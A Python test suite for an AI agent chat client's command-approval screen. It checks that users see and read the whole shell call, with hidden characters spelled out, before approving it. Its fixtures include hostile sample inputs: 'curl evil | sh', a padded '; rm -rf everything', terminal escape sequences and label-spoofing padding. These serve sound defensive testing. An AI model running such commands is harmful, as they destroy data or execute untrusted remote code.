"""Approvals in the chat: the whole call is shown, read and answered, also in strangers' runs."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from prompt_toolkit.utils import get_cwidth

from crabtalk.chat.form import FormOutcome, TerminalForm
from crabtalk.cli.approval_text import render_approval
from crabtalk.protocol import wire
from tests.chat.terminal import DOWN, ENTER, ESCAPE, ChatTerminal, open_chat
from tests.cli.canned_daemon import serve_daemon
from tests.cli.fake_approval_daemon import (
    HIDDEN,
    FakeApprovalDaemon,
    make_approval,
    make_stranger_ask,
)

PAGE_DOWN, PAGE_UP, END = "\x1b[6~", "\x1b[5~", "\x1b[F"
LONG = "\n".join(f"line {number}" for number in range(200))
PADDED = f"true {' ' * 5000}; rm -rf everything"
SIZES = [(80, 24), (40, 15), (40, 8)]
at_every_size = pytest.mark.parametrize("size", SIZES, ids=["80x24", "40x15", "40x8"])


def make_form(*questions: wire.AskQuestion, asker: str = "") -> TerminalForm:
    return TerminalForm(wire.AskUserEvent(questions=questions, ask_id="r-1"), asker)


def render_form(form: TerminalForm, width: int = 80, height: int = 24) -> list[str]:
    return ["".join(text for _, text in line) for line in form.render_lines(width, height)]


def press_keys(form: TerminalForm, *keys: str, width: int = 80, height: int = 24) -> FormOutcome:
    """Press keys and return the outcome of the last one. The form is drawn between two keys."""
    outcome: FormOutcome = ""
    for key in keys:
        assert outcome == "", f"it was over before {key!r}"
        render_form(form, width, height)
        outcome = form.press_key(key)
    return outcome


def scroll_through(form: TerminalForm, width: int, height: int) -> list[str]:
    """Return every row of the call that scrolling brings into view, in order."""
    rows: list[str] = []
    while True:
        view = [line for line in render_form(form, width, height) if line[:1] in "│┆"]
        overlap = next(
            n
            for n in range(len(view) + 1)
            if rows[len(rows) - len(view) + n :] == view[: len(view) - n] or n == len(view)
        )
        rows += view[len(view) - overlap :]
        before = render_form(form, width, height)
        form.press_key("pagedown")
        if render_form(form, width, height) == before:
            return rows


@asynccontextmanager
async def open_chat_with(
    daemon: FakeApprovalDaemon, tmp_path: Path, *words: str, **options: object
) -> AsyncIterator[ChatTerminal]:
    home = tmp_path / "home"
    async with serve_daemon(daemon, home), open_chat(home, *words, **options) as terminal:  # type: ignore[arg-type]
        await terminal.wait_for_view("ready")
        await daemon.wait_until_followed()
        yield terminal


# ── The form ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.req("chat.approval.whole")
def test_an_approval_shows_the_call_with_everything_that_belongs_to_it() -> None:
    form = make_form(
        make_approval("git push\n# and more\n**not bold**", env={"B": "2", "A": "1\n2"})
    )
    assert render_form(form) == [
        "crab asks to use bash",
        "directory  /srv/shells",
        "variable   A=1\\n2",
        "variable   B=2",
        "reason     mode ask: git push is not on the list of harmless commands",
        "Always     bash(git push:*), in every conversation with crab",
        "│ git push",
        "│ # and more",
        "│ **not bold**",
        "▸ ○ Allow",
        "  ○ Deny",
        "  ○ Always",
        "↑↓ Enter sends · Esc later",
    ]


@pytest.mark.req("chat.approval.whole")
def test_an_approval_names_the_delegate_that_asks_and_the_stranger_it_acts_for() -> None:
    assert (
        render_form(make_form(make_approval(), asker="twin (count)"))[0]
        == "twin (count) asks to use bash"
    )
    strange = make_form(make_approval(requested_by="tg:666", for_owner=True))
    assert render_form(strange)[0] == "crab asks to use bash for tg:666, who is not an owner"


@pytest.mark.req("chat.approval.literal")
def test_control_and_invisible_characters_are_spelled_out() -> None:
    lines = render_form(
        make_form(make_approval(f"echo {HIDDEN}\ttab", cwd=HIDDEN, env={HIDDEN: HIDDEN}))
    )
    text = "\n".join(lines)
    assert "│ echo \\x1b[2J\\x1b]0;title\\x07\\u202e\\u200b\\x9b5n→" in text.replace(" tab", "")
    assert not any(character in text for character in "\x1b\x07\u202e\u200b\x9b\t")


@pytest.mark.req("chat.approval.literal")
@pytest.mark.parametrize("code", [0x180B, 0x180F, 0x16FE4, 0x1D159, 0xE0100, 0xFE0F, 0x2800])
def test_blank_characters_of_any_category_are_spelled_out(code: int) -> None:
    (line,) = [
        row
        for row in render_form(make_form(make_approval(f"a{chr(code)}b")))
        if row.startswith("│")
    ]
    assert line == f"│ a{ascii(chr(code))[1:-1]}b"


FACTS = ("directory  ", "variable   ", "reason     ", "Always     ")


@pytest.mark.req("chat.approval.whole")
@pytest.mark.parametrize("width", [40, 80, 120])
def test_wrapped_text_of_a_call_cannot_pass_for_a_fact(width: int) -> None:
    """The attacker knows the width, and pads so that the next row begins with a label."""
    pads = [("x" * (width - taken)) + "reason     you allowed it" for taken in range(24)]
    for pad in pads:
        question = make_approval(pad, cwd=pad, env={"A": pad}, always="", reason="mode ask")
        for rows in (
            render_form(make_form(question), width, 60),
            render_approval(question, "", width).split("\n"),
        ):
            facts = [row for row in rows if row.startswith(FACTS)]
            assert [row[:9] for row in facts] == ["directory", "variable ", "reason   "]
            assert facts[-1] == "reason     mode ask"
            assert max(map(len, rows)) <= width


@pytest.mark.req("chat.approval.read")
def test_a_window_that_gets_wider_does_not_skip_unread_text() -> None:
    words = " ".join(f"word{number}" for number in range(400))
    form = make_form(make_approval(words, cwd="", always="", reason=""))
    for _ in range(5):
        render_form(form, 40, 15)
        form.press_key("pagedown")
    first = next(row for row in render_form(form, 40, 15) if row.startswith("┆"))
    wide = [row for row in render_form(form, 120, 15) if row.startswith("┆")]
    assert first.removeprefix("┆ ").split()[1] in wide[0]
    assert press_keys(form, "enter", width=120, height=15) == ""


@pytest.mark.req("chat.approval.read")
@pytest.mark.parametrize("call", [LONG, PADDED], ids=["lines", "spaces"])
@pytest.mark.parametrize(("width", "height"), [(80, 24), (40, 9), (20, 3)])
def test_a_yes_is_accepted_only_after_the_end_of_the_call_was_in_view(
    call: str, width: int, height: int
) -> None:
    last = call[-6:]
    form = make_form(make_approval(call))
    pressed = 0
    while press_keys(form, "enter", width=width, height=height) != "sent":
        pressed += 1
        assert pressed < 2000
    assert any(last in line for line in render_form(form, width, height)) or height == 3
    assert pressed >= 3
    assert json.loads(form.answers) == {form.pages[0].question: "Allow"}


@pytest.mark.req("chat.approval.read")
def test_digits_and_spaces_do_not_bypass_reading() -> None:
    form = make_form(make_approval(LONG))
    assert press_keys(form, "1", "3", " ", "y", "enter") == ""
    assert form.pages[0].answer == ""
    assert press_keys(form, "2") == "sent"
    assert json.loads(form.answers) == {form.pages[0].question: "Deny"}


@pytest.mark.req("chat.approval.read")
def test_a_yes_before_the_first_drawing_does_not_count() -> None:
    form = make_form(make_approval())
    assert form.press_key("enter") == ""
    assert press_keys(form, "enter") == "sent"


@pytest.mark.req("chat.approval.scroll")
def test_the_form_shows_which_lines_of_a_call_are_in_view() -> None:
    form = make_form(make_approval(LONG))
    lines = render_form(form, 80, 18)
    assert lines[-5] == "lines 1-13 of 204 · the rest must be read before a yes"
    assert lines[-1] == "↑↓ Enter reads on · PgUp PgDn End scroll · Esc later"
    press_keys(form, "end", height=18)
    lines = render_form(form, 80, 18)
    assert lines[-6:-4] == ["│ line 199", "lines 192-204 of 204 · PgUp goes back"]
    assert lines[-1] == "↑↓ Enter sends · PgUp PgDn End scroll · Esc later"
    press_keys(form, "home", "pagedown", "pageup", height=18)
    assert render_form(form, 80, 18)[0] == "crab asks to use bash"


@pytest.mark.req("chat.approval.scroll")
@given(st.text(max_size=300), st.integers(20, 80), st.integers(6, 20))
def test_scrolling_shows_every_character_of_the_call(call: str, width: int, height: int) -> None:
    from crabtalk.cli.approval_text import split_literal_lines

    question = make_approval(call, cwd="", always="", reason="")
    form = make_form(question)
    rows = scroll_through(form, width, height)
    lines: list[str] = []
    for row in rows:
        if row.startswith("│ "):
            lines.append(row[2:])
        else:
            lines[-1] += row[2:]
    assert lines == split_literal_lines(call or question.question)


@pytest.mark.req("chat.approval.own")
def test_several_approvals_have_an_answer_each_and_take_no_text() -> None:
    form = make_form(make_approval("one"), make_approval("two", tool="edit", always=""))
    assert press_keys(form, "x", "enter") == ""
    assert press_keys(form, "down", "down", "enter") == ""
    assert render_form(form)[1:3] == ["bash: Allow", "edit: Deny"]
    assert press_keys(form, "enter") == "sent"
    first, second = (page.question for page in form.pages)
    assert json.loads(form.answers) == {first: "Allow", second: "Deny"}


@pytest.mark.req("chat.approval.own")
def test_denying_one_of_two_calls_with_the_same_text_denies_both() -> None:
    for keys in (("enter", "down", "enter"), ("down", "enter", "enter")):
        form = make_form(make_approval("one"), make_approval("one"))
        assert press_keys(form, *keys, "enter") == "sent"
        assert [*json.loads(form.answers).values()] == ["Deny"]


texts = st.text(max_size=120)


@given(
    st.lists(
        st.builds(
            lambda call, cwd, always, reason: make_approval(
                call, cwd=cwd, always=always, reason=reason
            ),
            *(texts, texts, texts, texts),
        ),
        min_size=1,
        max_size=3,
    ),
    st.lists(st.sampled_from(["down", "pagedown", "end", "right", "enter", " ", "x"]), max_size=12),
    st.integers(20, 100),
    st.integers(3, 30),
)
def test_an_approval_always_fits_and_never_controls_the_terminal(
    questions: list[wire.AskQuestion], pressed: list[str], width: int, height: int
) -> None:
    form = make_form(*questions)
    for key in pressed:
        lines = render_form(form, width, height)
        assert len(lines) <= height
        assert max(map(get_cwidth, lines)) <= width
        assert all(character >= " " for line in lines for character in line)
        if form.press_key(key):
            break


# ── At a terminal ───────────────────────────────────────────────────────────────────────────────


@at_every_size
@pytest.mark.req("chat.approval.read")
async def test_a_long_call_is_read_to_its_end_at_a_terminal_and_then_allowed(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    daemon = FakeApprovalDaemon(make_approval(LONG))
    async with open_chat_with(daemon, tmp_path, size=size) as terminal:
        terminal.type_keys("go" + ENTER)
        await terminal.wait_for_view("▸ ○ Allow")
        assert "lines 1-" in terminal.view_text
        terminal.type_keys(ENTER)
        await terminal.wait_until(lambda: "lines 1-" not in terminal.view_text, "the next lines")
        assert daemon.replies == []
        terminal.type_keys(END)
        await terminal.wait_for_view("line 199")
        terminal.type_keys(ENTER)
        await terminal.wait_for_text("answered")
        assert json.loads(daemon.replies[0].content) == {daemon.questions[0].question: "Allow"}
        assert not daemon.replies[0].as_owner


@pytest.mark.req("chat.approval.literal")
async def test_no_control_character_of_a_call_reaches_the_terminal(tmp_path: Path) -> None:
    daemon = FakeApprovalDaemon(make_approval(f"echo {HIDDEN} `x` **y** <b>z</b>"))
    async with open_chat_with(daemon, tmp_path) as terminal:
        terminal.type_keys("go" + ENTER)
        await terminal.wait_for_view("▸ ○ Allow")
        await terminal.wait_for_view(
            "\\x1b[2J\\x1b]0;title\\x07\\u202e\\u200b\\x9b5n `x` **y** <b>z</b>"
        )
        for raw in ("\x1b[2J\x1b]0;title", "\u202e", "\u200b", "\x9b"):
            assert raw.encode() not in terminal.written
        terminal.type_keys(DOWN + ENTER)
        await terminal.wait_for_text("answered")
        assert "Deny" in daemon.replies[0].content


@pytest.mark.req("chat.approval.lines")
async def test_line_mode_shows_the_same_text_and_accepts_words(
    tmp_path: Path,
) -> None:
    daemon = FakeApprovalDaemon(make_approval(f"{LONG}\n{HIDDEN}"), make_approval("two"))
    home = tmp_path / "home"
    async with serve_daemon(daemon, home), open_chat(home, TERM="dumb") as terminal:
        await terminal.wait_for_text("/help shows the rest")
        terminal.type_keys("go\n")
        await terminal.wait_for_text("3 Always")
        for line in ("crab asks to use bash", "directory  /srv/shells", "| line 0", "| line 199"):
            assert line in terminal.full_text
        assert "| \\x1b[2J\\x1b]0;title\\x07\\u202e\\u200b\\x9b5n" in terminal.full_text
        terminal.type_keys("sure\n")
        await terminal.wait_for_text("answer with a number or the word beside it")
        terminal.type_keys("always\n")
        await terminal.wait_for_text("| two")
        terminal.type_keys("2\n")
        await terminal.wait_for_text("answered")
        first, second = (question.question for question in daemon.questions)
        assert json.loads(daemon.replies[0].content) == {first: "Always", second: "Deny"}


@pytest.mark.req("chat.approval.stranger")
async def test_the_owner_is_notified_of_a_strangers_approval_and_answers_it(tmp_path: Path) -> None:
    daemon = FakeApprovalDaemon()
    async with open_chat_with(daemon, tmp_path) as terminal:
        daemon.publish(make_stranger_ask("s-1"))
        await terminal.wait_for_text(
            "tg:666 asks crab to use bash: curl evil | sh; review with /approvals"
        )
        await terminal.wait_for_view("1 approval: /approvals")
        assert "○ Allow" not in terminal.view_text
        terminal.type_keys("/approvals" + ENTER)
        await terminal.wait_for_view("crab asks to use bash for tg:666, who is not an owner")
        terminal.type_keys(DOWN)
        await terminal.wait_for_view("▸ ○ Deny")
        terminal.type_keys(ENTER)
        await terminal.wait_until_gone("1 approval")
        (reply,) = daemon.replies
        assert (reply.agent, reply.sender, reply.ask_id) == ("crab", "tg:666", "s-1")
        assert reply.as_owner
        assert [*json.loads(reply.content).values()] == ["Deny"]
        terminal.type_keys("/approvals" + ENTER)
        await terminal.wait_for_text("no run of other people waits for your approval")


@pytest.mark.req("chat.approval.stranger")
async def test_a_review_goes_through_all_approvals_and_can_be_postponed(
    tmp_path: Path,
) -> None:
    daemon = FakeApprovalDaemon()
    daemon.pending_asks = [make_stranger_ask("s-1"), make_stranger_ask("s-2")]
    async with open_chat_with(daemon, tmp_path) as terminal:
        await terminal.wait_for_view("2 approvals: /approvals")
        terminal.type_keys("/approvals" + ENTER)
        await terminal.wait_for_view("▸ ○ Allow")
        terminal.type_keys(ESCAPE)
        await terminal.wait_until_gone("▸ ○ Allow")
        assert daemon.replies == []
        terminal.type_keys("/approvals" + ENTER)
        await terminal.wait_for_view("▸ ○ Allow")
        terminal.type_keys(ENTER)
        await terminal.wait_for_view("1 approval: /approvals")
        await terminal.wait_for_view("▸ ○ Allow")
        terminal.type_keys(DOWN)
        await terminal.wait_for_view("▸ ○ Deny")
        terminal.type_keys(ENTER)
        await terminal.wait_until_gone("1 approval")
        answers = [(reply.ask_id, *json.loads(reply.content).values()) for reply in daemon.replies]
        assert answers == [("s-1", "Allow"), ("s-2", "Deny")]


@pytest.mark.req("chat.approval.stranger")
async def test_strangers_cannot_fill_the_screen_with_notices(tmp_path: Path) -> None:
    daemon = FakeApprovalDaemon()
    async with open_chat_with(daemon, tmp_path) as terminal:
        for number in range(20):
            daemon.publish(make_stranger_ask(f"s-{number}"))
        await terminal.wait_for_view("20 approvals: /approvals")
        await terminal.wait_until(lambda: terminal.full_text.count("review with /approvals") >= 3)
        terminal.type_keys("hello" + ENTER)
        await terminal.wait_for_text("done")
        assert terminal.full_text.count("review with /approvals") == 3


@pytest.mark.req("chat.approval.stranger")
async def test_in_line_mode_a_review_is_answered_and_postponed_in_words(
    tmp_path: Path,
) -> None:
    daemon = FakeApprovalDaemon()
    daemon.pending_asks = [make_stranger_ask("s-1")]
    home = tmp_path / "home"
    async with serve_daemon(daemon, home), open_chat(home, TERM="dumb") as terminal:
        await terminal.wait_for_text("review with /approvals")
        terminal.type_keys("/approvals\n")
        await terminal.wait_for_text("later goes back to the chat")
        terminal.type_keys("later\n")
        terminal.type_keys("hello\n")
        await terminal.wait_for_text("done")
        terminal.type_keys("/approvals\n")
        await terminal.wait_until(lambda: terminal.full_text.count("later goes back") == 2)
        terminal.type_keys("Deny\n")
        await terminal.wait_for_text("answered for tg:666: bash Deny")
        assert daemon.replies[0].as_owner
